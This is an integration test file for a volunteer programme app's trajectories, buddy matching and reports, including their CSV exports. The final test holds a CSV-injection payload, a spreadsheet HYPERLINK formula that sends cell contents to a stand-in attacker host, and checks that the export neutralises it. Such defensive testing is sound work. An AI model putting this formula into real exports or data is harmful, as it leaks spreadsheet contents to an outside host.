import { parse } from 'csv-parse/sync';
import { CREATE_SESSION, createWorld, sessionInput, World } from './fixtures';
import { dataOf, errorOf, startTestApi, TestApi } from './test-api';
import { ADD_ABSENCE, createVolunteers, REGISTER, registerNewcomer, SAVE_PROFILE, Volunteer } from './volunteer-fixtures';

const TRAJECTORY = `id kind referralChannel startsOn endsOn status notes buddy { id } participant { id } history { fromStatus toStatus note } followUps { recordedOn outcomes note }`;
const CREATE = `mutation($i: CreateTrajectoryInput!) { createTrajectory(input: $i) { ${TRAJECTORY} } }`;
const CHANGE = `mutation($id: ID!, $s: TrajectoryStatus!, $n: String, $o: TrajectoryOutcome) { changeTrajectoryStatus(id: $id, status: $s, note: $n, outcome: $o) { id status endsOn } }`;
const FOLLOW_UP = `mutation($id: ID!, $i: FollowUpInput!) { addTrajectoryFollowUp(id: $id, input: $i) { id recordedOn outcomes note } }`;
const GET = `query($id: ID!) { trajectory(id: $id) { ${TRAJECTORY} } }`;
const REPORT = `query($f: Date!, $t: Date!) { trajectoryReport(from: $f, to: $t) { from to total byKind { key count } byReferralChannel { key count } byStatus { key count } byOutcome { key count } } }`;
const REPORT_CSV = `query($f: Date!, $t: Date!) { trajectoryReportCsv(from: $f, to: $t) }`;
const PROGRAMME_REPORT = `query($f: Date!, $t: Date!, $p: ID) { programmeReport(from: $f, to: $t, programmeId: $p) { programmeId programmeName month sessionsHeld seatsOffered confirmed attended noShows waitlisted } }`;
const PROGRAMME_REPORT_CSV = `query($f: Date!, $t: Date!, $p: ID) { programmeReportCsv(from: $f, to: $t, programmeId: $p) }`;
const SUGGEST_BUDDIES = `query($p: ID!, $n: String) { suggestBuddies(participantId: $p, neighbourhood: $n) { buddy { id } score sharedLanguages sameNeighbourhood activeBuddyTrajectories } }`;

const KINDS = ['BUDDY', 'VOLUNTEERING', 'ASSOCIATION', 'INTERNSHIP'] as const;
/** In the order the report lists them (the ReferralChannel enum's). */
const CHANNELS = ['SCHOOL', 'INTEGRATION_AGENCY', 'ADULT_EDUCATION', 'CONVERSATION_TABLE', 'FMDO', 'KIND_EN_GEZIN', 'SELF', 'OTHER'] as const;
const STATUSES = ['INTAKE', 'MATCHED', 'ACTIVE', 'FOLLOW_UP', 'CLOSED'] as const;

/** "Jan 2022–Sep 2023: 82 trajectories — buddy 51, volunteering 14, association 16, internship 1." */
const PICNIK: { kind: (typeof KINDS)[number]; count: number }[] = [
  { kind: 'BUDDY', count: 51 },
  { kind: 'VOLUNTEERING', count: 14 },
  { kind: 'ASSOCIATION', count: 16 },
  { kind: 'INTERNSHIP', count: 1 },
];

interface Planned {
  kind: string;
  referralChannel: string;
  startsOn: string;
}

/** 82 trajectories spread over the 21 months from January 2022 to September 2023, first and last day included. */
function plannedTrajectories(): Planned[] {
  const kinds = PICNIK.flatMap(({ kind, count }) => Array<string>(count).fill(kind));
  return kinds.map((kind, i) => {
    const month = Math.floor((i * 21) / kinds.length);
    const year = 2022 + Math.floor(month / 12);
    const day = i === 0 ? 1 : i === kinds.length - 1 ? 30 : 1 + ((i * 11) % 28);
    const startsOn = `${year}-${String((month % 12) + 1).padStart(2, '0')}-${String(day).padStart(2, '0')}`;
    // FMDO refers most newcomers; the rest come through every other channel.
    const referralChannel = i % 3 === 0 ? 'FMDO' : CHANNELS[i % CHANNELS.length];
    return { kind, referralChannel, startsOn };
  });
}

/** Started before or after the period: these must not count. */
const OUTSIDE: Planned[] = [
  { kind: 'BUDDY', referralChannel: 'FMDO', startsOn: '2021-12-31' },
  { kind: 'VOLUNTEERING', referralChannel: 'SCHOOL', startsOn: '2023-10-01' },
  { kind: 'INTERNSHIP', referralChannel: 'SELF', startsOn: '2023-10-01' },
  { kind: 'ASSOCIATION', referralChannel: 'OTHER', startsOn: '2024-02-10' },
  { kind: 'INTERNSHIP', referralChannel: 'FMDO', startsOn: '2020-05-05' },
];

const tally = (values: string[], keys: readonly string[]) => keys.map((key) => ({ key, count: values.filter((value) => value === key).length }));

/**
 * Picnik trajectories (with FMDO) and the city's reports, over HTTP against real PostgreSQL.
 */
describe('trajectories and reports', () => {
  let api: TestApi;
  let world: World;
  let intakeSessionId: string;
  let newcomerCount = 0;

  const coordinator = (query: string, variables: Record<string, unknown> = {}) => api.gql(query, variables, world.tokens.coordinator);
  const count = async (sql: string, params: unknown[] = []) => Number((await api.dataSource.query(sql, params))[0].count);
  const newcomer = (participant: Record<string, unknown> = {}) =>
    registerNewcomer(api, world, intakeSessionId, { firstName: `Nieuwkomer ${(newcomerCount += 1)}`, ...participant });

  beforeAll(async () => {
    api = await startTestApi();
    world = await createWorld(api);
    // Newcomers are registered for an intake table in January 2027, far from the months the reports below look at.
    const intake = sessionInput(world, { title: 'Intake Picnik', startsAt: '2027-01-12T19:00:00+01:00', endsAt: '2027-01-12T20:30:00+01:00', capacity: 40 });
    intakeSessionId = dataOf(await coordinator(CREATE_SESSION, { i: intake })).createSession.id;
  });
  afterAll(() => api?.close());

  describe('the Picnik report: January 2022 to September 2023', () => {
    const planned = plannedTrajectories();
    const ids: string[] = [];

    beforeAll(async () => {
      const all = [...planned, ...OUTSIDE];
      const participants: string[] = [];
      for (let i = 0; i < all.length; i += 20) participants.push(...(await Promise.all(all.slice(i, i + 20).map(() => newcomer()))));
      for (let i = 0; i < all.length; i += 20) {
        const created = await Promise.all(all.slice(i, i + 20).map((t, j) => coordinator(CREATE, { i: { ...t, participantId: participants[i + j] } })));
        ids.push(...created.map((r) => dataOf(r).createTrajectory.id as string));
      }
      // Some of them moved on: five buddies matched, three closed after the intake.
      for (const id of ids.slice(0, 5)) dataOf(await coordinator(CHANGE, { id, s: 'MATCHED' }));
      for (const id of ids.slice(60, 63)) dataOf(await coordinator(CHANGE, { id, s: 'CLOSED', n: 'Verhuisd naar Gent', o: 'OTHER' }));
    });

    it('loads the 82 (plus some outside the period) in the stated proportions', () => {
      expect(planned).toHaveLength(82);
      expect(
        tally(
          planned.map((t) => t.kind),
          KINDS,
        ),
      ).toEqual([
        { key: 'BUDDY', count: 51 },
        { key: 'VOLUNTEERING', count: 14 },
        { key: 'ASSOCIATION', count: 16 },
        { key: 'INTERNSHIP', count: 1 },
      ]);
      const days = planned.map((t) => t.startsOn).sort();
      expect([days[0], days[days.length - 1]]).toEqual(['2022-01-01', '2023-09-30']);
      // Every month of the period has some.
      expect(new Set(days.map((d) => d.slice(0, 7))).size).toBe(21);
      expect(ids).toHaveLength(82 + OUTSIDE.length);
    });

    it('trajectoryReport counts exactly the 82 that started in the period, by kind, referral channel and status', async () => {
      const report = dataOf(await coordinator(REPORT, { f: '2022-01-01', t: '2023-09-30' })).trajectoryReport;
      expect(report.from).toBe('2022-01-01');
      expect(report.to).toBe('2023-09-30');
      expect(report.total).toBe(82);
      expect(report.byKind).toEqual([
        { key: 'BUDDY', count: 51 },
        { key: 'VOLUNTEERING', count: 14 },
        { key: 'ASSOCIATION', count: 16 },
        { key: 'INTERNSHIP', count: 1 },
      ]);
      expect(report.byReferralChannel).toEqual(
        tally(
          planned.map((t) => t.referralChannel),
          CHANNELS,
        ),
      );
      expect(report.byReferralChannel.reduce((sum: number, c: { count: number }) => sum + c.count, 0)).toBe(82);
      expect(report.byReferralChannel.find((c: { key: string }) => c.key === 'FMDO').count).toBe(planned.filter((t) => t.referralChannel === 'FMDO').length);
      expect(report.byStatus).toEqual([
        { key: 'INTAKE', count: 74 },
        { key: 'MATCHED', count: 5 },
        { key: 'ACTIVE', count: 0 },
        { key: 'FOLLOW_UP', count: 0 },
        { key: 'CLOSED', count: 3 },
      ]);
      expect(report.byOutcome).toEqual([
        { key: 'CONTINUES_AT_REFU_INTERIM', count: 0 },
        { key: 'ASSOCIATION_MEMBER', count: 0 },
        { key: 'CITY_PROJECTS', count: 0 },
        { key: 'OTHER', count: 3 },
        { key: 'UNKNOWN', count: 0 },
      ]);
      // Cross-checks: the list with the same period, the database, and the whole history.
      expect(
        dataOf(await coordinator(`query { trajectories(filter: { startsFrom: "2022-01-01", startsTo: "2023-09-30" }) { id } }`)).trajectories,
      ).toHaveLength(82);
      expect(await count(`SELECT count(*) FROM trajectory WHERE starts_on BETWEEN '2022-01-01' AND '2023-09-30'`)).toBe(82);
      expect(dataOf(await coordinator(REPORT, { f: '2020-01-01', t: '2025-12-31' })).trajectoryReport.total).toBe(82 + OUTSIDE.length);
      expect(dataOf(await coordinator(REPORT, { f: '2023-10-01', t: '2023-10-01' })).trajectoryReport.byKind).toEqual(
        tally(['VOLUNTEERING', 'INTERNSHIP'], KINDS),
      );
    });

    it('trajectoryReportCsv holds the same figures', async () => {
      const csv = dataOf(await coordinator(REPORT_CSV, { f: '2022-01-01', t: '2023-09-30' })).trajectoryReportCsv as string;
      expect(csv.split('\r\n')[0]).toBe('\uFEFFdimension;value;trajectories');
      const rows = parse(csv, { columns: true, delimiter: ';', bom: true }) as { dimension: string; value: string; trajectories: string }[];
      const of = (dimension: string) => Object.fromEntries(rows.filter((r) => r.dimension === dimension).map((r) => [r.value, Number(r.trajectories)]));
      expect(of('total')).toEqual({ ALL: 82 });
      expect(of('kind')).toEqual({ BUDDY: 51, VOLUNTEERING: 14, ASSOCIATION: 16, INTERNSHIP: 1 });
      expect(of('referral_channel')).toEqual(
        Object.fromEntries(
          tally(
            planned.map((t) => t.referralChannel),
            CHANNELS,
          ).map((c) => [c.key, c.count]),
        ),
      );
      expect(Object.values(of('referral_channel')).reduce((a, b) => a + b, 0)).toBe(82);
      expect(of('status')).toEqual({ INTAKE: 74, MATCHED: 5, ACTIVE: 0, FOLLOW_UP: 0, CLOSED: 3 });
      expect(of('outcome')).toEqual({ CONTINUES_AT_REFU_INTERIM: 0, ASSOCIATION_MEMBER: 0, CITY_PROJECTS: 0, OTHER: 3, UNKNOWN: 0 });
      expect(rows).toHaveLength(1 + KINDS.length + CHANNELS.length + STATUSES.length + 5);
    });

    it('is for coordinators, over a sane period', async () => {
      expect(errorOf(await api.gql(REPORT, { f: '2022-01-01', t: '2023-09-30' }, world.tokens.volunteer)).code).toBe('FORBIDDEN');
      expect(errorOf(await api.gql(REPORT_CSV, { f: '2022-01-01', t: '2023-09-30' }, world.tokens.host)).code).toBe('FORBIDDEN');
      expect(errorOf(await coordinator(REPORT, { f: '2023-09-30', t: '2022-01-01' })).code).toBe('BAD_USER_INPUT');
      expect(errorOf(await coordinator(REPORT, { f: '2022-01-01', t: '30/09/2023' })).code).toBe('BAD_USER_INPUT');
    });
  });

  describe('a trajectory', () => {
    it('starts at INTAKE, or MATCHED when a buddy is given; a buddy must be a volunteer', async () => {
      const participantId = await newcomer({ preferredLanguage: 'prs' });
      const intake = dataOf(
        await coordinator(CREATE, { i: { participantId, kind: 'BUDDY', referralChannel: 'FMDO', startsOn: '2026-08-01', notes: 'Via FMDO-trajectcoach' } }),
      ).createTrajectory;
      expect(intake).toMatchObject({
        kind: 'BUDDY',
        referralChannel: 'FMDO',
        startsOn: '2026-08-01',
        endsOn: null,
        status: 'INTAKE',
        notes: 'Via FMDO-trajectcoach',
        buddy: null,
        participant: { id: participantId },
      });
      expect(intake.history).toEqual([{ fromStatus: null, toStatus: 'INTAKE', note: null }]);

      const matched = dataOf(
        await coordinator(CREATE, {
          i: { participantId, kind: 'VOLUNTEERING', referralChannel: 'SELF', startsOn: '2026-08-10', buddyId: world.userIds.volunteer },
        }),
      ).createTrajectory;
      expect(matched).toMatchObject({ status: 'MATCHED', buddy: { id: world.userIds.volunteer } });
      expect(matched.history).toEqual([{ fromStatus: null, toStatus: 'MATCHED', note: null }]);

      const before = await count(`SELECT count(*) FROM trajectory`);
      expect(
        errorOf(
          await coordinator(CREATE, { i: { participantId, kind: 'BUDDY', referralChannel: 'FMDO', startsOn: '2026-08-01', buddyId: world.userIds.host } }),
        ).code,
      ).toBe('BAD_USER_INPUT');
      expect(
        errorOf(await coordinator(CREATE, { i: { participantId, kind: 'BUDDY', referralChannel: 'FMDO', startsOn: '2026-08-01', endsOn: '2026-07-01' } })).code,
      ).toBe('BAD_USER_INPUT');
      expect(
        errorOf(await api.gql(CREATE, { i: { participantId, kind: 'BUDDY', referralChannel: 'FMDO', startsOn: '2026-08-01' } }, world.tokens.volunteer)).code,
      ).toBe('FORBIDDEN');
      expect(await count(`SELECT count(*) FROM trajectory`)).toBe(before);

      // The buddy sees the trajectory they are the buddy of, and only that one.
      const seenByBuddy = dataOf(await api.gql(`{ trajectories { id } }`, {}, world.tokens.volunteer)).trajectories;
      expect(seenByBuddy).toEqual([{ id: matched.id }]);
      expect(dataOf(await api.gql(`query($id: ID!) { trajectory(id: $id) { id status } }`, { id: matched.id }, world.tokens.volunteer)).trajectory).toEqual({
        id: matched.id,
        status: 'MATCHED',
      });
      expect(errorOf(await api.gql(`query($id: ID!) { trajectory(id: $id) { id } }`, { id: intake.id }, world.tokens.volunteer)).code).toBe('FORBIDDEN');
    });

    it('moves through its statuses keeping the history; a move that is not allowed is a CONFLICT and changes nothing', async () => {
      const participantId = await newcomer({ preferredLanguage: 'ti' });
      const id = dataOf(await coordinator(CREATE, { i: { participantId, kind: 'ASSOCIATION', referralChannel: 'INTEGRATION_AGENCY', startsOn: '2026-06-01' } }))
        .createTrajectory.id;
      const changes = () => count(`SELECT count(*) FROM trajectory_status_change WHERE trajectory_id = $1`, [id]);

      const skip = errorOf(await coordinator(CHANGE, { id, s: 'ACTIVE' }));
      expect([skip.code, skip.extensions.from, skip.extensions.to]).toEqual(['CONFLICT', 'INTAKE', 'ACTIVE']);
      expect(await changes()).toBe(1);

      for (const [status, note] of [
        ['MATCHED', 'Gekoppeld aan de Marokkaanse vereniging'],
        ['ACTIVE', null],
        ['FOLLOW_UP', 'Natraject'],
      ] as const) {
        expect(dataOf(await coordinator(CHANGE, { id, s: status, n: note })).changeTrajectoryStatus).toEqual({ id, status, endsOn: null });
      }
      // The same status again is no change.
      dataOf(await coordinator(CHANGE, { id, s: 'FOLLOW_UP' }));
      expect(await changes()).toBe(4);
      expect(errorOf(await coordinator(CHANGE, { id, s: 'MATCHED' })).code).toBe('CONFLICT');
      // Closing ends it today (by the test clock).
      expect(dataOf(await coordinator(CHANGE, { id, s: 'CLOSED', n: 'Werk gevonden', o: 'CONTINUES_AT_REFU_INTERIM' })).changeTrajectoryStatus).toEqual({
        id,
        status: 'CLOSED',
        endsOn: '2026-08-15',
      });
      expect(errorOf(await coordinator(CHANGE, { id, s: 'ACTIVE' })).code).toBe('CONFLICT');

      const trajectory = dataOf(await coordinator(GET, { id })).trajectory;
      expect(trajectory.status).toBe('CLOSED');
      expect(trajectory.history).toEqual([
        { fromStatus: null, toStatus: 'INTAKE', note: null },
        { fromStatus: 'INTAKE', toStatus: 'MATCHED', note: 'Gekoppeld aan de Marokkaanse vereniging' },
        { fromStatus: 'MATCHED', toStatus: 'ACTIVE', note: null },
        { fromStatus: 'ACTIVE', toStatus: 'FOLLOW_UP', note: 'Natraject' },
        { fromStatus: 'FOLLOW_UP', toStatus: 'CLOSED', note: 'Werk gevonden' },
      ]);
      expect(errorOf(await api.gql(CHANGE, { id, s: 'FOLLOW_UP' }, world.tokens.volunteer)).code).toBe('FORBIDDEN');
    });

    it('keeps follow-up notes with their outcomes, in date order', async () => {
      const participantId = await newcomer({ preferredLanguage: 'uk' });
      const id = dataOf(await coordinator(CREATE, { i: { participantId, kind: 'INTERNSHIP', referralChannel: 'ADULT_EDUCATION', startsOn: '2026-03-01' } }))
        .createTrajectory.id;
      const later = dataOf(
        await coordinator(FOLLOW_UP, {
          id,
          i: { recordedOn: '2026-08-10', outcomes: ['FOUND_WORK_VIA_INTERIM', 'STAYED_MEMBER', 'FOUND_WORK_VIA_INTERIM'], note: 'Werkt via interim bij Barco' },
        }),
      ).addTrajectoryFollowUp;
      expect(later).toEqual({
        id: expect.any(String),
        recordedOn: '2026-08-10',
        outcomes: ['FOUND_WORK_VIA_INTERIM', 'STAYED_MEMBER'],
        note: 'Werkt via interim bij Barco',
      });
      dataOf(await coordinator(FOLLOW_UP, { id, i: { recordedOn: '2026-05-02', outcomes: ['FURTHER_TRAINING'] } }));
      expect(errorOf(await coordinator(FOLLOW_UP, { id, i: { recordedOn: '2026-02-28', outcomes: ['OTHER'] } })).code).toBe('BAD_USER_INPUT');
      expect(errorOf(await api.gql(FOLLOW_UP, { id, i: { recordedOn: '2026-08-11', outcomes: ['OTHER'] } }, world.tokens.volunteer)).code).toBe('FORBIDDEN');
      expect(dataOf(await coordinator(GET, { id })).trajectory.followUps).toEqual([
        { recordedOn: '2026-05-02', outcomes: ['FURTHER_TRAINING'], note: null },
        { recordedOn: '2026-08-10', outcomes: ['FOUND_WORK_VIA_INTERIM', 'STAYED_MEMBER'], note: 'Werkt via interim bij Barco' },
      ]);
    });
  });

  describe('suggestBuddies', () => {
    let buddies: Record<string, Volunteer>;

    beforeAll(async () => {
      const created = await createVolunteers(api, world, ['Buddy Overleie', 'Buddy Heule', 'Buddy Nederlands', 'Buddy Weg', 'Buddy Druk']);
      buddies = Object.fromEntries(created.map((b) => [b.name.split(' ')[1], b]));
      const profile = (who: Volunteer, input: Record<string, unknown>) => api.gql(SAVE_PROFILE, { v: who.id, i: input }, world.tokens.coordinator).then(dataOf);
      await profile(buddies.Overleie, { languages: ['nl', 'ar'], neighbourhood: 'Overleie', skills: ['BUDDY'] }); // 3 + 2 + 2
      await profile(buddies.Heule, { languages: ['ar'], neighbourhood: 'Heule', skills: ['BUDDY'] }); // 3 + 2
      await profile(buddies.Nederlands, { languages: ['nl'], neighbourhood: 'overleie', skills: ['BUDDY'] }); // 2 + 2
      await profile(buddies.Weg, { languages: ['ar'], neighbourhood: 'Overleie', skills: ['BUDDY'] }); // away today
      await profile(buddies.Druk, { languages: ['ar'], neighbourhood: 'Overleie', skills: ['BUDDY'], screeningStatus: 'RECEIVED' }); // 7 - 2 current buddy trajectories
      dataOf(await api.gql(ADD_ABSENCE, { v: buddies.Weg.id, i: { startsOn: '2026-08-10', endsOn: '2026-08-20', reason: 'Op reis' } }, buddies.Weg.token));
      for (const firstName of ['Samira', 'Tarek']) {
        const participantId = await newcomer({ firstName, preferredLanguage: 'ar' });
        dataOf(await coordinator(CREATE, { i: { participantId, kind: 'BUDDY', referralChannel: 'FMDO', startsOn: '2026-07-01', buddyId: buddies.Druk.id } }));
      }
    });

    it("ranks a buddy who shares the newcomer's language and neighbourhood first, and skips one who is away", async () => {
      const participantId = await newcomer({ firstName: 'Yara', preferredLanguage: 'ar' });
      const suggestions = dataOf(await coordinator(SUGGEST_BUDDIES, { p: participantId, n: 'OVERLEIE' })).suggestBuddies;
      expect(suggestions).toEqual([
        { buddy: { id: buddies.Overleie.id }, score: 7, sharedLanguages: ['ar'], sameNeighbourhood: true, activeBuddyTrajectories: 0 },
        { buddy: { id: buddies.Heule.id }, score: 5, sharedLanguages: ['ar'], sameNeighbourhood: false, activeBuddyTrajectories: 0 },
        { buddy: { id: buddies.Druk.id }, score: 5, sharedLanguages: ['ar'], sameNeighbourhood: true, activeBuddyTrajectories: 2 },
        { buddy: { id: buddies.Nederlands.id }, score: 4, sharedLanguages: [], sameNeighbourhood: true, activeBuddyTrajectories: 0 },
      ]);
      // Without a neighbourhood only the language and the buddy's load count.
      const anywhere = dataOf(await coordinator(SUGGEST_BUDDIES, { p: participantId })).suggestBuddies;
      // Overleie and Heule tie (5, no current buddies): the id decides, as it does every time.
      const tied = [buddies.Overleie.id, buddies.Heule.id].sort();
      expect(anywhere.map((s: { buddy: { id: string }; score: number }) => [s.buddy.id, s.score])).toEqual([
        [tied[0], 5],
        [tied[1], 5],
        [buddies.Druk.id, 3],
        [buddies.Nederlands.id, 2],
      ]);
      expect(anywhere[3]).toEqual({
        buddy: { id: buddies.Nederlands.id },
        score: 2,
        sharedLanguages: [],
        sameNeighbourhood: false,
        activeBuddyTrajectories: 0,
      });
      expect(errorOf(await api.gql(SUGGEST_BUDDIES, { p: participantId }, buddies.Overleie.token)).code).toBe('FORBIDDEN');
    });

    it('takes "today" in Brussels: at 00:30 on 16 August (22:30 UTC on the 15th) a buddy away from the 16th is left out', async () => {
      dataOf(await coordinator(ADD_ABSENCE, { v: buddies.Heule.id, i: { startsOn: '2026-08-16', endsOn: '2026-08-31' } }));
      const participantId = await newcomer({ firstName: 'Zaid', preferredLanguage: 'ar' });
      const trajectoryId = dataOf(await coordinator(CREATE, { i: { participantId, kind: 'BUDDY', referralChannel: 'SELF', startsOn: '2026-08-01' } }))
        .createTrajectory.id;
      const midnight = await startTestApi({ sharing: api, now: new Date('2026-08-15T22:30:00Z') });
      try {
        const ids = dataOf(await midnight.gql(SUGGEST_BUDDIES, { p: participantId }, world.tokens.coordinator)).suggestBuddies.map(
          (s: { buddy: { id: string } }) => s.buddy.id,
        );
        expect(ids).toContain(buddies.Overleie.id);
        expect(ids).not.toContain(buddies.Heule.id);
        // Closing then ends the trajectory on the Brussels date too.
        expect(
          dataOf(await midnight.gql(CHANGE, { id: trajectoryId, s: 'CLOSED', o: 'UNKNOWN' }, world.tokens.coordinator)).changeTrajectoryStatus.endsOn,
        ).toBe('2026-08-16');
      } finally {
        await midnight.close();
      }
      // At 12:00 on the 15th the same buddy is still suggested.
      expect(dataOf(await coordinator(SUGGEST_BUDDIES, { p: participantId })).suggestBuddies.map((s: { buddy: { id: string } }) => s.buddy.id)).toContain(
        buddies.Heule.id,
      );
    });
  });

  describe('programmeReport', () => {
    let programmeId: string;

    beforeAll(async () => {
      programmeId = dataOf(
        await api.gql(
          `mutation($i: CreateProgrammeInput!) { createProgramme(input: $i) { id } }`,
          { i: { name: 'Babbelbox', kind: 'TABLE', defaultCapacity: 2 } },
          world.tokens.admin,
        ),
      ).createProgramme.id;
      const session = async (startsAt: string, endsAt: string, capacity: number) =>
        dataOf(
          await coordinator(CREATE_SESSION, {
            i: sessionInput(world, { programmeId, venueId: world.schoolVenueId, title: 'Babbelbox De Vlieger', startsAt, endsAt, capacity }),
          }),
        ).createSession.id as string;
      const register = async (sessionId: string, firstName: string) =>
        dataOf(
          await coordinator(REGISTER, {
            i: { sessionId, participant: { firstName, preferredLanguage: 'nl', contactChannel: 'NONE', consentToContact: false } },
          }),
        ).registerParticipant as { id: string; status: string };

      // September: two sessions of two seats; three people want the first, so one waits.
      const first = await session('2026-09-10T09:00:00+02:00', '2026-09-10T10:30:00+02:00', 2);
      const second = await session('2026-09-24T09:00:00+02:00', '2026-09-24T10:30:00+02:00', 2);
      // 00:30 on 1 October in Brussels is still 30 September in UTC: it belongs to October.
      const october = await session('2026-10-01T00:30:00+02:00', '2026-10-01T01:30:00+02:00', 3);
      const cancelled = await session('2026-09-17T09:00:00+02:00', '2026-09-17T10:30:00+02:00', 2);
      const [a, b, waiting] = [await register(first, 'Aya'), await register(first, 'Bram'), await register(first, 'Wafa')];
      expect([a.status, b.status, waiting.status]).toEqual(['CONFIRMED', 'CONFIRMED', 'WAITLISTED']);
      // Bram cancels: Wafa moves up, and still counts as someone who was on the waiting list.
      dataOf(await coordinator(`mutation($id: ID!) { cancelRegistration(id: $id) { status } }`, { id: b.id }));
      // Dana is never marked: confirmed, neither attended nor a no-show.
      const [c] = [await register(second, 'Cem'), await register(second, 'Dana')];
      const e = await register(october, 'Emre');
      await register(cancelled, 'Fien');
      dataOf(await coordinator(`mutation($id: ID!) { cancelSession(id: $id, reason: "Ziek") { status } }`, { id: cancelled }));

      const after = await startTestApi({ sharing: api, now: new Date('2026-10-15T08:00:00Z') });
      try {
        const mark = async (registrationId: string, attended: boolean) =>
          dataOf(
            await after.gql(
              `mutation($id: ID!, $a: Boolean!) { markAttendance(registrationId: $id, attended: $a) { status } }`,
              { id: registrationId, a: attended },
              world.tokens.coordinator,
            ),
          );
        await mark(a.id, true);
        await mark(waiting.id, false);
        await mark(c.id, true);
        await mark(e.id, false);
      } finally {
        await after.close();
      }
    });

    it('gives per programme and month the sessions held, seats, confirmed, attended, no-shows and waitlisted', async () => {
      const rows = dataOf(await coordinator(PROGRAMME_REPORT, { f: '2026-09-01', t: '2026-10-31', p: programmeId })).programmeReport;
      expect(rows).toEqual([
        { programmeId, programmeName: 'Babbelbox', month: '2026-09', sessionsHeld: 2, seatsOffered: 4, confirmed: 4, attended: 2, noShows: 1, waitlisted: 1 },
        { programmeId, programmeName: 'Babbelbox', month: '2026-10', sessionsHeld: 1, seatsOffered: 3, confirmed: 1, attended: 0, noShows: 1, waitlisted: 0 },
      ]);
      // No other programme had sessions then.
      expect(dataOf(await coordinator(PROGRAMME_REPORT, { f: '2026-09-01', t: '2026-10-31' })).programmeReport).toEqual(rows);
      // Brussels days: the session at 00:30 on 1 October is not in September.
      expect(dataOf(await coordinator(PROGRAMME_REPORT, { f: '2026-09-01', t: '2026-09-30', p: programmeId })).programmeReport).toEqual([rows[0]]);
      expect(dataOf(await coordinator(PROGRAMME_REPORT, { f: '2026-10-01', t: '2026-10-01', p: programmeId })).programmeReport).toEqual([rows[1]]);
      expect(dataOf(await coordinator(PROGRAMME_REPORT, { f: '2026-11-01', t: '2026-11-30', p: programmeId })).programmeReport).toEqual([]);
      expect(errorOf(await api.gql(PROGRAMME_REPORT, { f: '2026-09-01', t: '2026-10-31' }, world.tokens.host)).code).toBe('FORBIDDEN');
    });

    it('programmeReportCsv holds the same figures', async () => {
      const csv = dataOf(await coordinator(PROGRAMME_REPORT_CSV, { f: '2026-09-01', t: '2026-10-31', p: programmeId })).programmeReportCsv as string;
      expect(csv.split('\r\n')[0]).toBe(
        '\uFEFFprogramme;month;sessions_held;seats_offered;confirmed;attended;no_shows;waitlisted;children_confirmed;children_attended',
      );
      expect(parse(csv, { columns: true, delimiter: ';', bom: true })).toEqual([
        {
          programme: 'Babbelbox',
          month: '2026-09',
          sessions_held: '2',
          seats_offered: '4',
          confirmed: '4',
          attended: '2',
          no_shows: '1',
          waitlisted: '1',
          children_confirmed: '0',
          children_attended: '0',
        },
        {
          programme: 'Babbelbox',
          month: '2026-10',
          sessions_held: '1',
          seats_offered: '3',
          confirmed: '1',
          attended: '0',
          no_shows: '1',
          waitlisted: '0',
          children_confirmed: '0',
          children_attended: '0',
        },
      ]);
    });

    it('programmeReportCsv writes a programme name that looks like a formula as text (CSV injection)', async () => {
      const name = '=HYPERLINK("https://evil.example/?"&A1,"Klik")';
      const id = dataOf(
        await api.gql(
          `mutation($i: CreateProgrammeInput!) { createProgramme(input: $i) { id } }`,
          { i: { name, kind: 'TABLE', defaultCapacity: 2 } },
          world.tokens.admin,
        ),
      ).createProgramme.id;
      dataOf(
        await coordinator(CREATE_SESSION, {
          i: sessionInput(world, {
            programmeId: id,
            venueId: world.schoolVenueId,
            title: 'Formule',
            startsAt: '2026-11-05T09:00:00+01:00',
            endsAt: '2026-11-05T10:00:00+01:00',
            capacity: 2,
          }),
        }),
      );
      const csv = dataOf(await coordinator(PROGRAMME_REPORT_CSV, { f: '2026-11-01', t: '2026-11-30', p: id })).programmeReportCsv as string;
      expect((parse(csv, { columns: true, delimiter: ';', bom: true }) as { programme: string }[]).map((row) => row.programme)).toEqual([`'${name}`]);
      // The JSON report keeps the name as it was typed: only the CSV cell is neutralised.
      expect(dataOf(await coordinator(PROGRAMME_REPORT, { f: '2026-11-01', t: '2026-11-30', p: id })).programmeReport[0].programmeName).toBe(name);
    });
  });
});
